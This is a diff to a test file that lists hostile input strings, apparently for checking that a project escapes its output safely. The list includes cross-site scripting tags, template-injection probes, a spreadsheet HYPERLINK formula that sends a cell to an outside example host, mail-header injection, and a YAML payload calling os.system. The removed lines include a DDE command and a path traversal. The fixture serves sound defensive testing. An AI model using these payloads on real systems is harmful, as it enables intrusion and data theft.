@@ -1,7 +1,10 @@
-"""Values that hurt somewhere: pages, documents, spreadsheets, mails, YAML, the eye (most of them from old bugs)."""
+"""Values that hurt somewhere: the hostile corpus, and what is long, unlikely or not even YAML (most from old bugs)."""
+
+from tests.support.hostile import texts
 
 MARK = "zqmark"
 HOSTILE = (
+    *texts().values(),
     f"<script>{MARK}</script>",
     f"<img src=x onerror={MARK}>",
     f"\"><svg onload='{MARK}'>",
@@ -10,14 +13,10 @@ HOSTILE = (
     f"# Heading {{onclick={MARK} .x}}",
     "--8<-- 'mkdocs.yml'",
     "{{ 7*7 }} {{ config }} {% for x in y %}",
-    "{% if member %}",
     "{{ team.notes }}",
     '=HYPERLINK("http://elsewhere.example/"&A1,"x")',
-    "=cmd|' /C calc'!A0",
-    "＝1+1",  # noqa: RUF001  a sign that spreadsheets take for =
     "=?utf-8?q?a=0d=0aBcc:_x?=",
     "A\\r\\nBcc: q@elsewhere.example",
-    "../../etc/passwd",
     "con",
     "NO",
     "02134",
@@ -31,7 +30,6 @@ HOSTILE = (
     "-1",
     "null",
     "~",
-    "&Co Books",
     "*alias",
     "!!python/object/apply:os.system [ls]",
     "!tag value",
@@ -40,12 +38,8 @@ HOSTILE = (
     "%percent",
     "A #1",
     "Table: the network",
-    "- item",
-    "? question",
-    "| pipe",
     "[open",
     "{open",
-    "'open",
     '"open',
     '"\\ud800"',
     '"\\0"',
